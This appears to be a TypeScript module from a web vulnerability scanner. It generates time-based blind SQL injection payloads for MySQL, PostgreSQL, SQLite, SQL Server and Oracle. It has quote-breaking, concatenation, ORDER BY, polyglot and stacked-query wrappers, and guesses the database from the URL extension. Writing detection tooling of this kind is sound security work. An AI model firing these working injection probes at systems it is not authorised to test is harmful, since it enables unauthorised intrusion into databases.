import type { InjectionPoint } from '../../../evidence/parse/application/injection-point.ts';

/** A condition that holds after a delay. `amount`: seconds, or steps of a calculation. */
type Delay = (amount: number) => string;

type Context = (value: string, condition: string) => string;

interface Database {
  readonly name: string;
  readonly delay: Delay;
  /** Steps that take some tenths of a second, where the database calculates instead of waiting. */
  readonly steps?: number;
  readonly numbers: readonly Context[];
  readonly texts: readonly Context[];
}

/** A value with a delay in it. */
export interface DelayForm {
  readonly database: Database;
  value(amount: number): string;
}

// The value stays the same, or a condition is added with AND: the statement concerns no more rows than before.
const CHOSEN: Context = (value, condition) => `(CASE WHEN ${condition} THEN ${value} ELSE ${value} END)`;
const LISTED: Context = (value, condition) => `${value},(CASE WHEN ${condition} THEN 1 ELSE 2 END)`;
const SINGLE: Context = (value, condition) => `${value}' AND ${condition} AND '1'='1`;
const BRACKETED: Context = (value, condition) => `${value}') AND ${condition} AND ('1'='1`;
const DOUBLE: Context = (value, condition) => `${value}" AND ${condition} AND "1"="1`;
const LIKE: Context = (value, condition) => `${value}%' AND ${condition} AND '1' LIKE '1`;
const JOINED: Context = (value, condition) => `${value}'||(CASE WHEN ${condition} THEN '' ELSE '' END)||'`;
const JOINED_DOUBLE: Context = (value, condition) => `${value}"||(CASE WHEN ${condition} THEN '' ELSE '' END)||"`;
const stacked =
  (end: string): Context =>
  (value, statement) =>
    `${value}${end} AND 1=0;${statement}--`;

/** Fits a text in either kind of quotes, and with a value that is a number also a number: one request instead of three. */
const COMBINED: Context = (value, condition) =>
  NUMBER.test(value)
    ? `${value} AND ${condition}/*' AND ${condition} AND '1'<>'1" AND ${condition} AND "1"<>"1*/`
    : `${value}' AND ${condition} AND '1'<>'1" AND ${condition} AND "1"<>"1`;

/** Each delay is evaluated once for a statement, not once for a row. */
const MYSQL: Database = {
  name: 'MySQL',
  delay: (s) => `1=(SELECT 1 FROM (SELECT SLEEP(${s}))z)`,
  numbers: [CHOSEN, SINGLE, DOUBLE],
  texts: [SINGLE, DOUBLE, LIKE, BRACKETED],
};
const POSTGRES: Database = {
  name: 'PostgreSQL',
  delay: (s) => `1=(SELECT 1 FROM PG_SLEEP(${s}))`,
  numbers: [CHOSEN, SINGLE],
  texts: [JOINED, SINGLE],
};
const SQLITE: Database = {
  name: 'SQLite',
  delay: (n) =>
    `1=(WITH RECURSIVE z(i) AS (SELECT 0 UNION ALL SELECT i+1 FROM z WHERE i<${n}) SELECT COUNT(*)>0 FROM z)`,
  steps: 2_000_000,
  numbers: [CHOSEN, JOINED, JOINED_DOUBLE],
  texts: [JOINED, JOINED_DOUBLE],
};
const SQL_SERVER: Database = {
  name: 'SQL Server',
  delay: (s) => `WAITFOR DELAY '0:0:${s}'`,
  numbers: ['', "'", ')', "')"].map(stacked),
  texts: ["'", "')"].map(stacked),
};
const ORACLE: Database = {
  name: 'Oracle',
  delay: (s) => `1=(SELECT DBMS_PIPE.RECEIVE_MESSAGE('z',${s}) FROM DUAL)`,
  numbers: [CHOSEN, JOINED],
  texts: [JOINED],
};

const NUMBER = /^-?\d{1,15}(?:\.\d{1,10})?$/;
const DIRECTION = /^(?:asc|desc)$/i;
/** May be the name of a column to sort by. */
const MAY_SORT = /sort|order|^by$|col|field|group|^dir/i;
/** Is one, such as `orderBy` and `sort_field`. */
const SORTS =
  /^(?:(?:sort|order|group)(?:ed|ing|[_-]?(?:by|dir|direction|field|col|column|key|order))?|by|dir|direction)$/i;

/** The forms that may fit a point, the most likely first. */
export function delaysFor(point: InjectionPoint): readonly DelayForm[] {
  const { value } = point;
  return databasesFor(point.url).flatMap((database) => {
    const contexts = NUMBER.test(value) ? database.numbers : database.texts;
    return formsOf(database, [...(maySort(point) && database !== SQL_SERVER ? [LISTED] : []), ...contexts], value);
  });
}

/** The forms for the standard profile: one or two requests for each of the two databases that are used most with the language. */
export function fewDelaysFor(point: InjectionPoint): readonly DelayForm[] {
  const { name, value, url } = point;
  const isNumber = NUMBER.test(value);
  const surelySorts = !isNumber && (SORTS.test(name) || DIRECTION.test(value));
  const databases = databasesFor(url).filter((one) => one === MYSQL || one === POSTGRES || one === SQL_SERVER);
  return databases.slice(0, /\.php\b/i.test(new URL(url).pathname) ? 1 : 2).flatMap((database) => {
    const [first = COMBINED] = isNumber ? database.numbers : database.texts;
    const ordinary = database === MYSQL ? COMBINED : first;
    if (database === SQL_SERVER || !maySort(point)) return formsOf(database, [ordinary], value);
    return formsOf(database, surelySorts ? [LISTED] : [ordinary, LISTED], value);
  });
}

/** The databases of forms, as text. */
export function databasesText(forms: readonly DelayForm[]): string {
  return [...new Set(forms.map(({ database }) => database.name))].join(' and ');
}

function maySort({ name, value }: InjectionPoint): boolean {
  return MAY_SORT.test(name) || DIRECTION.test(value);
}

function formsOf(database: Database, contexts: readonly Context[], value: string): DelayForm[] {
  return contexts.map((context) => ({ database, value: (amount) => context(value, database.delay(amount)) }));
}

/** By the programming language that the path suggests. */
function databasesFor(url: string): readonly Database[] {
  const { pathname } = new URL(url);
  if (/\.php\b/i.test(pathname)) return [MYSQL, POSTGRES, SQLITE];
  if (/\.as[hpm]x?\b/i.test(pathname)) return [SQL_SERVER, ORACLE, MYSQL];
  if (/\.(?:jsp|do|action)\b/i.test(pathname)) return [MYSQL, ORACLE, POSTGRES, SQL_SERVER];
  return [MYSQL, POSTGRES, SQLITE, SQL_SERVER, ORACLE];
}
